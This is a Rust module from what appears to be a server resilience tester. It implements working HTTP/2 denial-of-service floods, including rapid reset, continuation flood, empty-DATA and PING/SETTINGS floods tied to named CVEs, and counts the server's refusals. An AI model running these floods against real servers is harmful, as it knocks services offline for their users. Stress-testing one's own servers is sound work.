//! Floods of HTTP/2 frames that cost their sender nothing.

use std::sync::Arc;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::sleep;

use super::super::door::{GENERATE, RETRY};
use super::super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADER_BYTES, HEADERS, LARGEST_PAYLOAD, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, stream,
};
use super::{Arena, Attack, Attacking};

pub(super) const ATTACKS: [Attack; 9] = [
    Attack::new(
        "rapid-reset",
        "4 connections of calls that are reset at once (CVE-2023-44487)",
        |arena| flood(arena, rapid_reset()),
    ),
    Attack::new("ping-flood", "4 connections of PING frames", |arena| {
        flood(arena, repeated(&frame(PING, 0, 0, &[0; 8])))
    }),
    Attack::new(
        "unread-pings",
        "4 connections of PING frames whose answers are never read",
        |arena| {
            flood(
                arena,
                Flood {
                    reads: false,
                    ..repeated(&frame(PING, 0, 0, &[0; 8]))
                },
            )
        },
    ),
    Attack::new(
        "settings-flood",
        "4 connections of SETTINGS frames that change the window",
        |arena| flood(arena, settings()),
    ),
    Attack::new(
        "continuation-flood",
        "4 connections of headers that never end (CVE-2024-27316)",
        |arena| flood(arena, continuation()),
    ),
    Attack::new(
        "huge-headers",
        "4 connections of calls with 64 KB of headers each",
        |arena| flood(arena, huge_headers()),
    ),
    Attack::new(
        "window-updates",
        "4 connections of WINDOW_UPDATE frames by one byte",
        |arena| flood(arena, repeated(&frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))),
    ),
    Attack::new(
        "empty-data",
        "4 connections of empty DATA frames on one call (CVE-2019-9518)",
        |arena| flood(arena, on_one_call(&frame(DATA, 0, stream(0), &[]))),
    ),
    Attack::new(
        "priority-flood",
        "4 connections of PRIORITY frames",
        |arena| {
            let priority = frame(PRIORITY, 0, stream(0), &[0, 0, 0, 0, 16]);
            flood(arena, on_one_call(&priority))
        },
    ),
];

const CONNECTIONS: usize = 4;
/// Bytes written in one go.
const CHUNK: usize = 64 << 10;

/// What a flooding connection sends.
#[derive(Debug, Clone)]
struct Flood {
    opening: Vec<u8>,
    /// Sent once if it `is_whole`, else again and again.
    chunk: Vec<u8>,
    is_whole: bool,
    reads: bool,
}

fn flood(arena: Arena, flood: Flood) -> Attacking {
    Box::pin(async move {
        let flood = Arc::new(flood);
        join_all((0..CONNECTIONS).map(|_| async {
            loop {
                match TcpStream::connect(arena.target.grpc).await {
                    Ok(stream) => one_connection(&arena, &flood, stream).await,
                    Err(_refused) => arena.tally.count("connection refused"),
                }
                sleep(RETRY).await;
            }
        }))
        .await;
        Ok(())
    })
}

async fn one_connection(arena: &Arena, flood: &Flood, stream: TcpStream) {
    arena.tally.count("connected");
    let (read, mut write) = stream.into_split();
    let writing = async {
        write.write_all(&flood.opening).await?;
        loop {
            for part in flood.chunk.chunks(CHUNK) {
                write.write_all(part).await?;
                arena.tally.add("KiB sent", part.len() as u64 >> 10);
            }
            if flood.is_whole {
                return std::io::Result::Ok(());
            }
        }
    };
    if !flood.reads {
        // The other half stays open, unread.
        let _ = writing.await;
        drop(read);
        arena.tally.count("connection lost");
        return;
    }
    let reading = hear(arena, read);
    tokio::pin!(reading);
    tokio::select! {
        () = &mut reading => {}
        sent = writing => if sent.is_ok() || !flood.is_whole {
            // What the server says of it is on its way.
            let _ = tokio::time::timeout(RETRY, reading).await;
        }
    }
    arena.tally.count("connection over");
}

/// Reads frames until the connection ends, and counts those that refuse something.
async fn hear(arena: &Arena, read: OwnedReadHalf) {
    let mut read = BufReader::with_capacity(CHUNK, read);
    let mut header = [0; HEADER_BYTES];
    let mut payload = Vec::new();
    while read.read_exact(&mut header).await.is_ok() {
        let (kind, length) = frames::kind_and_length(header);
        payload.resize(length, 0);
        if read.read_exact(&mut payload).await.is_err() {
            return;
        }
        match kind {
            RST_STREAM => arena.tally.count("RST_STREAM"),
            GOAWAY => {
                let code = payload.get(4..8).map_or(0, |code| code[3]);
                let reason = h2::Reason::from(u32::from(code));
                arena.tally.count(format!("GOAWAY {reason:?}"));
            }
            _ => {}
        }
    }
}

/// Repeats one frame on a connection without calls.
fn repeated(frame: &[u8]) -> Flood {
    Flood {
        opening: frames::opening(),
        chunk: frame.repeat(CHUNK / frame.len()),
        is_whole: false,
        reads: true,
    }
}

/// The same, with one call begun.
fn on_one_call(frame: &[u8]) -> Flood {
    let mut flood = repeated(frame);
    flood.opening.extend(call(0));
    flood
}

fn call(number: u32) -> Vec<u8> {
    let headers = frames::call_headers(GENERATE);
    frame(HEADERS, END_HEADERS, stream(number), &headers)
}

fn rapid_reset() -> Flood {
    let reset = |number| frame(RST_STREAM, 0, stream(number), &[0, 0, 0, 8]);
    let calls = (0..20_000).flat_map(|number| [call(number), reset(number)].concat());
    Flood {
        opening: frames::opening(),
        chunk: calls.collect(),
        is_whole: true,
        reads: true,
    }
}

/// Windows that shrink and grow concern all calls: there are some.
fn settings() -> Flood {
    let window = |bytes: u32| {
        let [a, b, c, d] = bytes.to_be_bytes();
        frame(SETTINGS, 0, 0, &[0, 4, a, b, c, d])
    };
    let mut flood = repeated(&[window(0), window(1 << 20)].concat());
    (0..100).for_each(|number| flood.opening.extend(call(number)));
    flood
}

fn continuation() -> Flood {
    let filler = frames::header("x-filler", &"x".repeat(LARGEST_PAYLOAD - 100));
    let mut flood = repeated(&frame(CONTINUATION, 0, stream(0), &filler));
    let headers = frames::call_headers(GENERATE);
    flood.opening.extend(frame(HEADERS, 0, stream(0), &headers));
    flood
}

fn huge_headers() -> Flood {
    let filler = frames::header("x-filler", &"x".repeat(LARGEST_PAYLOAD - 100));
    let one = |number| {
        let headers = frames::call_headers(GENERATE);
        let mut call = frame(HEADERS, 0, stream(number), &headers);
        for _ in 0..3 {
            call.extend(frame(CONTINUATION, 0, stream(number), &filler));
        }
        call.extend(frame(CONTINUATION, END_HEADERS, stream(number), &filler));
        call
    };
    Flood {
        opening: frames::opening(),
        chunk: (0..200).flat_map(one).collect(),
        is_whole: true,
        reads: true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The kinds of all frames in some bytes, which must end where a frame does.
    fn kinds(mut bytes: &[u8]) -> Vec<u8> {
        let mut kinds = Vec::new();
        while !bytes.is_empty() {
            let header = bytes[..HEADER_BYTES].try_into().unwrap();
            let (kind, length) = frames::kind_and_length(header);
            assert!(length <= LARGEST_PAYLOAD, "{length}");
            kinds.push(kind);
            bytes = &bytes[HEADER_BYTES + length..];
        }
        kinds
    }

    #[test]
    fn floods_are_whole_frames_of_the_kinds_they_are_named_for() {
        for (flood, expected) in [
            (rapid_reset(), vec![HEADERS, RST_STREAM]),
            (settings(), vec![SETTINGS]),
            (continuation(), vec![CONTINUATION]),
            (huge_headers(), vec![HEADERS, CONTINUATION]),
            (on_one_call(&frame(DATA, 0, stream(0), &[])), vec![DATA]),
        ] {
            let opening = flood.opening.strip_prefix(frames::PREFACE).unwrap();
            assert_eq!(kinds(opening)[0], SETTINGS);
            let mut found = kinds(&flood.chunk);
            found.sort_unstable();
            found.dedup();
            let mut expected = expected;
            expected.sort_unstable();
            assert_eq!(found, expected);
        }
    }
}
